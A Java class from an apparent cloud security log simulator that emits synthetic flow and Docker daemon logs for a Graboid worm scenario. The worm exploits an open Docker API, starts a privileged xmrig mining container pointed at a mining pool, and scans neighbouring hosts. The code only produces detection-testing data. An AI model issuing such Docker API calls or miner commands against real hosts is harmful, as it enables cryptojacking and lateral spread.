package dev.cloudwarden.simulate.scenario;

import dev.cloudwarden.simulate.write.Formats;
import dev.cloudwarden.simulate.write.LogKind;
import dev.cloudwarden.simulate.write.LogLine;
import dev.cloudwarden.simulate.write.ScenarioInfo;

import java.time.Instant;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;

/**
 * M2 Graboid: a worm reaches an unsecured Docker API (tcp/2375) from outside, pulls its image, starts a
 * miner, then calls the Docker API of the other hosts it can reach and connects to a mining pool.
 */
public final class Graboid implements Scenario {
    static final String ID = "m2-graboid";
    private static final String WORM = "203.0.113.201";

    @Override
    public ScenarioInfo info() {
        return new ScenarioInfo(ID, "M2", "Graboid worm through an open Docker API", List.of("T1190", "T1496", "T1610"));
    }

    @Override
    public void generate(Instant start, Random random, Consumer<LogLine> out) {
        String[] host = World.INSTANCES.get(2);
        Instant t = start.plusSeconds(1);
        out.accept(new LogLine(LogKind.VPC_FLOW, t, Formats.flow(World.ACCOUNT, host[2], WORM, host[1], 51000 + random.nextInt(1000),
                2375, 6, 42, 9_800, t, true), ID));
        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.24/images/create?fromImage=pocosow%2Fcentos&tag=7"), ID));
        t = t.plusSeconds(20);
        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.24/containers/create"), ID));
        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug",
                "form data: {\"Cmd\":[\"/bin/sh\",\"-c\",\"xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AB3x\"],"
                        + "\"Image\":\"gakeaws/nginx:8.9\",\"HostConfig\":{\"Privileged\":true}}"), ID));
        t = t.plusSeconds(2);
        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.24/containers/3f4e5d6c7b8a/start"), ID));
        for (String[] other : World.INSTANCES) {
            if (other == host) {
                continue;
            }
            t = t.plusSeconds(3 + random.nextInt(5));
            out.accept(new LogLine(LogKind.VPC_FLOW, t, Formats.flow(World.ACCOUNT, host[2], host[1], other[1],
                    45000 + random.nextInt(1000), 2375, 6, 6, 360, t, random.nextBoolean()), ID));
        }
        t = t.plusSeconds(30);
        out.accept(new LogLine(LogKind.VPC_FLOW, t, Formats.flow(World.ACCOUNT, host[2], host[1], "192.0.2.210",
                47000 + random.nextInt(1000), 4444, 6, 1500, 620_000, t, true), ID));
    }
}
